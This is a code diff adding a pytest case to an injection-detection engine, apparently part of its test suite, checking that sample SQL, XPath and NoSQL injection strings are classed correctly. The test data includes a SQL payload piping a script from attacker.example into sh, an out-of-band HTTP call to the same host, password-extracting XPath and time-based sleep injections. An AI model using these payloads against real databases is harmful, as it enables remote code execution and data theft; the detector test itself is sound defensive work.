@@ -358,6 +358,27 @@ def test_template_tags_and_their_look_alikes(
     assert result["is_threat"] and result["attack_class"] == named
 
 
+@pytest.mark.parametrize(
+    ("value", "named"),
+    [
+        ("'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--", "sqli"),
+        ("' or count(/*)=1 or 'a'='b", "xml"),
+        ("admin' and substring(//user[1]/password,1,1)='a", "xml"),
+        ("' AND HTTPURITYPE('http://attacker.example/x').GETCLOB() IS NOT NULL--", "sqli"),
+        ("';sleep(5000);", "nosql"),
+        ('{"$where": "sleep(5000)"}', "nosql"),
+        ("' AND SLEEP(5)-- -", "sqli"),
+    ],
+)
+def test_the_language_that_carries_the_payload_names_it(
+    engine: DetectionEngine, value: str, named: str
+) -> None:
+    """SQL running a program is SQL injection, an XPath function over the document's paths is
+    XPath (XML) injection, and a sleep counted in milliseconds is JavaScript in a NoSQL query."""
+    result = engine.detect(value)
+    assert result["is_threat"] and result["attack_class"] == named
+
+
 def test_documentation_showing_a_template_sum_reads_as_prose(engine: DetectionEngine) -> None:
     value = ("Angular interpolation uses double curly braces, so {{ 1 + 1 }} renders as 2 in "
              "the view.")
